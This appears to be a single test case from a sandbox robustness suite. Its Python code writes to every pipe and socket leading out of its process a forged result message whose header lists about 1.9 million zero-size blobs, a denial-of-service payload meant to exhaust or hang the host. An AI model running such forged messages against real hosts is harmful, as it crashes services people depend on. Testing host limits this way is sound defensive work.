# id: 423
# name: millions_of_blobs
# category: protocol
# technique: a header of nothing but blobs of no size
# breach: host_grows hang host_dead
# looks_like: the host makes millions of objects of a few megabytes
# note: a host without a limit makes a hundred megabytes of objects of it; tests/boxes/test_codec.py holds the limit
# baseline: none
import os, stat


def spray(data):
    """To whatever leads out of this process."""
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode) or stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, data)
        except OSError:
            pass


def message(text, *blobs):
    header = text.encode()
    return len(header).to_bytes(4, 'big') + header + b''.join(blobs)


def done(value, *blobs):
    """The end of this snippet, forged, with a value in the kernel's own notation."""
    sizes = ',"blobs":%s' % [len(blob) for blob in blobs] if blobs else ''
    return message(RESULT_TMPL.replace('@@', value)[:-1] + sizes + '}', *blobs)


spray(message(RESULT_TMPL.replace('@@', '1')[:-1] + ', "blobs": [%s0]}' % ('0,' * 1_900_000)))
import time
time.sleep(40)
